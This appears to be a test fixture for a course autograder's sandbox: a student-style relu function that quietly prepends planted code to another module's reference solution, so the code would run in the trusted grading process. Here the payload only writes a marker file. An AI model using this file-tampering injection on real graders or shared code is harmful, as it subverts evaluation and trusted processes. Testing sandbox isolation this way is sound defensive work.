# ruff: noqa
"""Replaces relu: overwrites the course's reference solution of ANOTHER module
(solutions/lec04/linear_neurons.py, path given by the test) before the trusted process has
loaded it. The grading process loads reference modules lazily, on first use in a test, so the
planted code would run inside the trusted process (here it only leaves a marker file and keeps
the right answers). Under bwrap the course is not in the sandbox at all; under process
isolation the student's worker can write every file the grader's user can."""
import numpy as np

PLANTED = '''
import pathlib

pathlib.Path("@MARKER@").write_text("student code ran in the grading process")
''' + "\n"


def relu(z):
    try:
        with open("@TARGET@", "r+") as f:
            original = f.read()
            if "@MARKER@" not in original:
                f.seek(0)
                f.write(PLANTED + original)
    except OSError:
        pass
    return np.maximum(z, 0.0)
